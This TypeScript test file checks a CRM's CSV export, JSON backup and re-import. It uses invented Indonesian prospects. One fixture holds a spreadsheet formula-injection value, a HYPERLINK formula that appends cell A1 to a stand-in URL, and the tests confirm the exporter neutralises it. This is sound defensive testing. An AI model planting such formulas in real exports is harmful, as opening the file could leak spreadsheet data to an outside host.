import { FOLLOW_UP_CADENCE_DEFAULTS, PROSPECT_PLAYBOOK_DEFAULTS } from '../model';
import { describe, expect, it } from 'vitest';
import { testStore } from '../../test/unit/store-helpers';
import type { FollowUp, OutboxEntry, Prospect, Stage, StageChange, Touch } from '../model';
import { DEFAULT_STAGES } from '../pipeline/default-stages';
import { addFollowUp, captureProspect, logTouch, setStage } from '../store/commands';
import { completeFollowUp } from '../store/playbook';
import { parseCsv, type CsvTable } from './csv';
import {
  backupJson,
  followUpsCsv,
  makeBackup,
  parseBackup,
  prospectsCsv,
  touchesCsv,
  PROSPECT_COLUMNS,
  type BackupTables,
  type ExportProspect,
} from './export';
import { planImport, readImportFile, type ExistingLookup } from './import-plan';

// Invented people only.
const T = Date.UTC(2026, 10, 2, 3, 0, 0);
const uuid = (n: number) => `00000000-0000-4000-8000-${n.toString(16).padStart(12, '0')}`;

const stages: Stage[] = DEFAULT_STAGES.map((s, i) => ({
  id: uuid(100 + i),
  teamId: 'local',
  key: s.key,
  name: null,
  order: i,
  kind: s.kind,
  probability: s.probability,
  staleDays: s.staleDays,
  updatedAt: T,
  deletedAt: null,
}));
const EN: Record<string, string> = {
  prospecting: 'Prospecting',
  qualification: 'Qualification',
  consideration: 'Consideration',
  decision: 'Purchase / Decision',
  delivery: 'Delivery',
  lost: 'Lost',
};
const stageName = (id: string) => {
  const s = stages.find((x) => x.id === id);
  return s ? (s.name ?? EN[s.key]) : undefined;
};
const stageRefs = stages.map((s) => ({ key: s.key, names: [EN[s.key]!] }));

function prospect(n: number, over: Partial<ExportProspect> = {}): ExportProspect {
  return {
    id: uuid(n),
    teamId: 'local',
    slug: `orang-contoh-${n}`,
    memberId: null,
    emails: [`orang${n}@contoh.id`],
    name: `Orang Contoh ${n}`,
    headline: null,
    title: 'Kepala Pengadaan',
    company: 'PT Fiktif Sejahtera',
    location: 'Jakarta',
    photoUrl: null,
    linkedinUrl: `https://www.linkedin.com/in/orang-contoh-${n}/`,
    source: 'social_selling',
    temperature: 'cold',
    temperatureSet: false,
    stageId: stages[n % 4]!.id,
    stageEnteredAt: T,
    score: 35,
    scoreBreakdown: [{ rule: 'seniority', points: 20, detail: 'kepala' }],
    ownerId: 'local',
    ...PROSPECT_PLAYBOOK_DEFAULTS,
    lastTouchAt: T + 3_600_000,
    touchCount: 2,
    createdAt: T,
    updatedAt: T + 7_200_000,
    deletedAt: null,
    ...over,
  };
}

function table(text: string): CsvTable {
  expect(text.charCodeAt(0)).toBe(0xfeff);
  const r = parseCsv(text);
  if (!r.ok) throw new Error(r.error.message);
  return r;
}
const byHeader = (t: CsvTable, row: number) => {
  const header = t.records[0]!.cells;
  return Object.fromEntries(header.map((h, i) => [h, t.records[row]!.cells[i]]));
};

describe('prospects CSV', () => {
  const people = [
    prospect(1, { dealValue: 25_000_000, currency: 'IDR', emails: ['orang1@contoh.id', 'kerja1@contoh.id'] }),
    prospect(2, {
      name: '=HYPERLINK("http://contoh.invalid/?"&A1,"klik")',
      headline: '+62 812 0000 0000',
      title: '-Direktur',
      company: '@Fiktif, Tbk "Baru"',
      location: 'Bandung\nJawa Barat',
      dealValue: null,
    }),
    prospect(3, { deletedAt: T + 1 }),
  ];
  const text = prospectsCsv(people, { stageName });
  const t = table(text);

  it('writes a header and one row per live prospect, CRLF-terminated', () => {
    expect(t.records[0]!.cells).toEqual([...PROSPECT_COLUMNS]);
    expect(t.records).toHaveLength(3);
    expect(text.endsWith('\r\n')).toBe(true);
    expect(byHeader(t, 1)).toEqual({
      Name: 'Orang Contoh 1',
      Headline: '',
      Title: 'Kepala Pengadaan',
      Company: 'PT Fiktif Sejahtera',
      'Company slug': '',
      'Company domain': '',
      'Company ID': '',
      Location: 'Jakarta',
      Emails: 'orang1@contoh.id; kerja1@contoh.id',
      'LinkedIn URL': 'https://www.linkedin.com/in/orang-contoh-1/',
      Source: 'social_selling',
      Temperature: 'cold',
      Stage: 'Qualification',
      'Deal value': '25000000',
      Currency: 'IDR',
      Score: '35',
      'Last touch': '2026-11-02T04:00:00.000Z',
      Touches: '2',
      Owner: 'local',
      Created: '2026-11-02T03:00:00.000Z',
      Updated: '2026-11-02T05:00:00.000Z',
      ID: uuid(1),
    });
  });

  it('neutralises formulas in text cells and keeps the rest of the cell intact', () => {
    const row = byHeader(t, 2);
    expect(row.Name).toBe(`'=HYPERLINK("http://contoh.invalid/?"&A1,"klik")`);
    expect(row.Headline).toBe("'+62 812 0000 0000");
    expect(row.Title).toBe("'-Direktur");
    expect(row.Company).toBe(`'@Fiktif, Tbk "Baru"`);
    expect(row.Location).toBe('Bandung\nJawa Barat');
    expect(row['Deal value']).toBe('');
  });

  it('writes localised labels when given', () => {
    const out = table(prospectsCsv([prospect(4)], { stageName: () => 'Prospek', sourceLabel: () => 'Social selling (LinkedIn)' }));
    expect(byHeader(out, 1)).toMatchObject({ Stage: 'Prospek', Source: 'Social selling (LinkedIn)' });
  });

  it('export → import creates the same people, and importing again changes nothing', () => {
    const live = people.filter((p) => p.deletedAt === null);
    const file = readImportFile(text);
    if (!file.ok) throw new Error(file.error.message);
    const fresh = planImport(file.file, { existing: { idBySlug: () => undefined, idByEmail: () => undefined }, stages: stageRefs });
    expect(fresh.errors).toEqual([]);
    expect(fresh.creates.map((c) => c.record)).toEqual(
      live.map((p) => ({
        name: p.name,
        headline: p.headline,
        title: p.title,
        company: p.company,
        // A line break inside a cell is whitespace to the importer.
        location: p.location?.replace(/\s+/g, ' ') ?? null,
        email: p.emails[0],
        emails: p.emails,
        slug: p.slug,
        memberId: p.memberId ?? null,
        linkedinUrl: p.linkedinUrl,
        source: p.source,
        stageKey: stages.find((s) => s.id === p.stageId)!.key,
        dealValue: p.dealValue ?? null,
        currency: p.currency ?? null,
        stageAt: null,
        connectedAt: null,
      })),
    );

    const bySlug = new Map(live.map((p) => [p.slug!, p]));
    const byEmail = new Map(live.flatMap((p) => p.emails.map((e) => [e, p] as const)));
    const existing: ExistingLookup = {
      idBySlug: (s) => bySlug.get(s)?.id,
      idByEmail: (e) => byEmail.get(e)?.id,
      get: (id) => {
        const p = live.find((x) => x.id === id)!;
        return { ...p, stageKey: stages.find((s) => s.id === p.stageId)!.key, dealValue: p.dealValue ?? null };
      },
    };
    const again = planImport(file.file, { existing, stages: stageRefs });
    expect(again.creates).toEqual([]);
    expect(again.updates.map((u) => u.changes)).toEqual([{ location: 'Bandung Jawa Barat' }]);
    expect(again.skipped.map((s) => s.reason)).toEqual(['unchanged']);
  });
});

describe('follow-ups and touches CSV', () => {
  const names = (id: string) => (id === uuid(1) ? 'Orang Contoh 1' : undefined);
  const followUps: FollowUp[] = [
    {
      id: uuid(200),
      teamId: 'local',
      prospectId: uuid(1),
      assigneeId: 'local',
      ...FOLLOW_UP_CADENCE_DEFAULTS,
      title: '=1+1 telepon lagi',
      dueAt: T + 86_400_000,
      doneAt: null,
      snoozedUntil: T + 90_000_000,
      createdAt: T,
      updatedAt: T,
      deletedAt: null,
      openDueAt: T + 90_000_000,
    },
    {
      id: uuid(201),
      teamId: 'local',
      prospectId: uuid(9),
      assigneeId: 'local',
      ...FOLLOW_UP_CADENCE_DEFAULTS,
      title: 'Kirim proposal',
      dueAt: T,
      doneAt: T + 1000,
      snoozedUntil: null,
      createdAt: T,
      updatedAt: T + 1000,
      deletedAt: null,
    },
    {
      id: uuid(202),
      teamId: 'local',
      prospectId: uuid(1),
      assigneeId: 'local',
      ...FOLLOW_UP_CADENCE_DEFAULTS,
      title: 'Deleted',
      dueAt: T,
      doneAt: null,
      snoozedUntil: null,
      createdAt: T,
      updatedAt: T,
      deletedAt: T,
    },
  ];
  const touches: Touch[] = [
    {
      id: uuid(300),
      teamId: 'local',
      prospectId: uuid(1),
      channel: 'linkedin_message',
      direction: 'out',
      note: '@semua: "halo", apa kabar?\nSalam',
      engagement: null,
      occurredAt: T + 60_000,
      createdAt: T + 61_000,
      byId: 'local',
    },
    {
      id: uuid(301),
      teamId: 'local',
      prospectId: uuid(1),
      channel: 'call',
      direction: 'in',
      note: null,
      engagement: null,
      occurredAt: T,
      createdAt: T,
      byId: 'local',
    },
  ];

  it('follow-ups: live ones only, ISO times, neutralised titles, prospect name and id', () => {
    const t = table(followUpsCsv(followUps, { prospectName: names }));
    expect(t.records).toHaveLength(3);
    expect(byHeader(t, 1)).toEqual({
      Prospect: 'Orang Contoh 1',
      Title: "'=1+1 telepon lagi",
      Due: '2026-11-03T03:00:00.000Z',
      Done: '',
      'Snoozed until': '2026-11-03T04:00:00.000Z',
      Assignee: 'local',
      Created: '2026-11-02T03:00:00.000Z',
      Updated: '2026-11-02T03:00:00.000Z',
      'Prospect ID': uuid(1),
      ID: uuid(200),
    });
    expect(byHeader(t, 2)).toMatchObject({ Prospect: '', Done: '2026-11-02T03:00:01.000Z', 'Prospect ID': uuid(9) });
  });

  it('touches: every one, notes with quotes and newlines intact, formulas neutralised', () => {
    const t = table(touchesCsv(touches, { prospectName: names }));
    expect(t.records).toHaveLength(3);
    expect(byHeader(t, 1)).toEqual({
      Prospect: 'Orang Contoh 1',
      Occurred: '2026-11-02T03:01:00.000Z',
      Channel: 'linkedin_message',
      Direction: 'out',
      Note: `'@semua: "halo", apa kabar?\nSalam`,
      By: 'local',
      Created: '2026-11-02T03:01:01.000Z',
      'Prospect ID': uuid(1),
      ID: uuid(300),
    });
    expect(byHeader(t, 2)).toMatchObject({ Channel: 'call', Direction: 'in', Note: '' });
  });

  it('a BOM can be left out', () => {
    expect(touchesCsv([], { prospectName: names, bom: false })).toBe(
      'Prospect,Occurred,Channel,Direction,Note,By,Created,Prospect ID,ID\r\n',
    );
  });
});

describe('JSON backup', () => {
  async function storeTables(): Promise<BackupTables> {
    const { ctx, advance } = await testStore();
    const a = await captureProspect(ctx, {
      slug: 'dewi-lestari-contoh',
      email: 'dewi@contoh.id',
      name: 'Dewi Lestari',
      headline: 'Head of Sales di PT Fiktif',
      title: 'Head of Sales',
      company: 'PT Fiktif',
      location: 'Jakarta',
      photoUrl: null,
      linkedinUrl: 'https://www.linkedin.com/in/dewi-lestari-contoh/',
      source: 'social_selling',
    });
    advance(60_000);
    await captureProspect(ctx, {
      slug: null,
      email: 'bima@contoh.id',
      name: 'Bima',
      headline: null,
      title: null,
      company: null,
      location: null,
      photoUrl: null,
      linkedinUrl: null,
      source: 'email',
    });
    advance(60_000);
    await logTouch(ctx, { prospectId: a.prospect.id, channel: 'linkedin_message', direction: 'out', note: 'Halo "Dewi"\n=1+1' });
    const f = await addFollowUp(ctx, { prospectId: a.prospect.id, title: 'Telepon', dueAt: ctx.now() + 86_400_000 });
    advance(60_000);
    await completeFollowUp(ctx, f.id);
    await setStage(ctx, a.prospect.id, 'qualification');
    const db = ctx.db;
    return {
      stages: await db.stages.toArray(),
      prospects: await db.prospects.toArray(),
      touches: await db.touches.toArray(),
      followUps: await db.followUps.toArray(),
      stageChanges: await db.stageChanges.toArray(),
      outbox: await db.outbox.toArray(),
      meta: await db.meta.toArray(),
    };
  }

  it('round-trips the whole local database exactly', async () => {
    const tables = await storeTables();
    expect(tables.prospects).toHaveLength(2);
    expect(tables.touches.length).toBeGreaterThan(0);
    expect(tables.followUps.length).toBeGreaterThan(0);
    expect(tables.outbox.length).toBeGreaterThan(0);
    expect(tables.meta.length).toBeGreaterThan(0);
    const json = backupJson(makeBackup(tables, T));
    const back = parseBackup(json);
    if (!back.ok) throw new Error(back.error.message);
    expect(back.backup.format).toBe('jalur-backup');
    expect(back.backup.version).toBe(1);
    expect(back.backup.exportedAt).toBe('2026-11-02T03:00:00.000Z');
    // JSON drops undefined properties; compare as the store would see them after a restore.
    expect(back.backup.tables).toEqual(JSON.parse(JSON.stringify(tables)));
    // A second trip changes nothing either.
    const twice = parseBackup(backupJson(back.backup));
    expect(twice.ok && twice.backup).toEqual(back.backup);
  });

  function sample(): BackupTables {
    const p = prospect(1) as Prospect;
    const change: StageChange = {
      id: uuid(400),
      teamId: 'local',
      prospectId: p.id,
      fromStageId: null,
      toStageId: stages[0]!.id,
      changedAt: T,
      byId: 'local',
    };
    const out: OutboxEntry = {
      seq: 1,
      mutationId: uuid(500),
      entity: 'prospect',
      op: 'upsert',
      entityId: p.id,
      fields: { name: p.name },
      hlc: '000000001:0000:test',
      createdAt: T,
    };
    return {
      stages,
      prospects: [p, prospect(2) as Prospect],
      touches: [],
      followUps: [],
      stageChanges: [change],
      outbox: [out],
      meta: [{ key: 'hlc', value: { x: 1 } }],
    };
  }
  const json = (mutate: (b: Record<string, any>) => void) => {
    const b = JSON.parse(backupJson(makeBackup(sample(), T)));
    mutate(b);
    return JSON.stringify(b);
  };

  it('accepts a BOM in front of the JSON', () => {
    expect(parseBackup('\ufeff' + backupJson(makeBackup(sample(), T))).ok).toBe(true);
  });

  it.each([
    ['not JSON', '{"format": "jalur-backup", ', 'not-json'],
    ['an array', '[]', 'not-a-backup'],
    ['null', 'null', 'not-a-backup'],
    ['another format', '{"format":"other-crm","version":1}', 'not-a-backup'],
  ])('refuses %s', (_n, text, code) => {
    const r = parseBackup(text);
    expect(r.ok).toBe(false);
    if (!r.ok) expect(r.error.code).toBe(code);
  });

  it('refuses another version, telling a newer one apart', () => {
    const newer = parseBackup(json((b) => (b.version = 2)));
    expect(newer).toMatchObject({ ok: false, error: { code: 'unsupported-version' } });
    if (!newer.ok) expect(newer.error.message).toContain('newer Jalur');
    const odd = parseBackup(json((b) => (b.version = '1')));
    expect(odd).toMatchObject({ ok: false, error: { code: 'unsupported-version' } });
  });

  it('names the table, row and field of a bad row', () => {
    const r = parseBackup(
      json((b) => {
        b.tables.prospects[1].emails = ['not-an-address'];
        b.tables.stageChanges[0].changedAt = -5;
      }),
    );
    expect(r.ok).toBe(false);
    if (r.ok) return;
    expect(r.error).toMatchObject({ code: 'bad-row', table: 'prospects', index: 1, path: 'emails.0', problems: 2 });
    expect(r.error.message).toMatch(/^prospects row 1, emails\.0: /);
  });

  it('names a missing table or a broken header field', () => {
    expect(parseBackup(json((b) => delete b.tables.meta))).toMatchObject({ ok: false, error: { code: 'bad-file', path: 'tables.meta' } });
    expect(parseBackup(json((b) => (b.exportedAt = 'yesterday')))).toMatchObject({
      ok: false,
      error: { code: 'bad-file', path: 'exportedAt' },
    });
  });

  it('refuses a row whose key repeats', () => {
    const r = parseBackup(json((b) => b.tables.prospects.push(b.tables.prospects[0])));
    expect(r).toMatchObject({ ok: false, error: { code: 'duplicate-key', table: 'prospects', index: 2 } });
  });

  it('20,000 bad rows: refused with the first one named and all of them counted, row by row', () => {
    // One schema over the whole file gathered every issue of every row (zod spreads a table's issues
    // into its parent's with push(...)): minutes of work, then "Maximum call stack size exceeded" in
    // Chrome's service worker. Row by row it is one pass.
    const backup = JSON.parse(json(() => undefined)) as { tables: { prospects: unknown[] } };
    backup.tables.prospects = Array.from({ length: 20_000 }, (_, i) => ({ id: `bukan-${i}` }));
    const r = parseBackup(JSON.stringify(backup));
    expect(r).toMatchObject({ ok: false, error: { code: 'bad-row', table: 'prospects', index: 0, path: 'id', problems: 20_000 } });
  }, 20_000);
});
